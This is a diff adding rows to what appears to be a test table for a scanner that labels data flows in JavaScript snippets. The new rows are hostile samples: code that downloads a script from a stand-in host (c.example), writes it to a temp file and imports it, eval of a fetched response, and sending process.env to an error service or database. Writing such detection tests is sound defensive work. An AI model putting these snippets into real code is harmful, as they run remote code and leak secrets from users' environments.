@@ -742,7 +742,27 @@ const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = 
   [
     'a packed module that is written and loaded',
     "const fs=require('fs'),p=require('os').tmpdir()+'/x.js';fs.writeFileSync(p,atob('YWxlcnQoMSk='));require(p)",
-    'packed to dropped',
+    'packed to loaded',
+  ],
+  [
+    'a download that is written and loaded by its URL',
+    "import {writeFile} from 'fs/promises';import {pathToFileURL} from 'url';const f=require('os').tmpdir()+'/n.mjs';await writeFile(f,await (await fetch('https://c.example')).text());await import(pathToFileURL(f).href)",
+    'remote to loaded',
+  ],
+  [
+    'the environment in a report of errors',
+    "const S=require('@sentry/node');S.setContext('e',process.env)",
+    'environment to service',
+  ],
+  [
+    'a row of a database',
+    "const {Client}=require('pg');const c=new Client();c.query('insert into t values($1)',[JSON.stringify(process.env)])",
+    'environment to service',
+  ],
+  [
+    'what a callback of a request is given',
+    "const request=require('request');request.get('https://c.example',(e,r,b)=>{eval(b)})",
+    'remote to code',
   ],
 ];
 
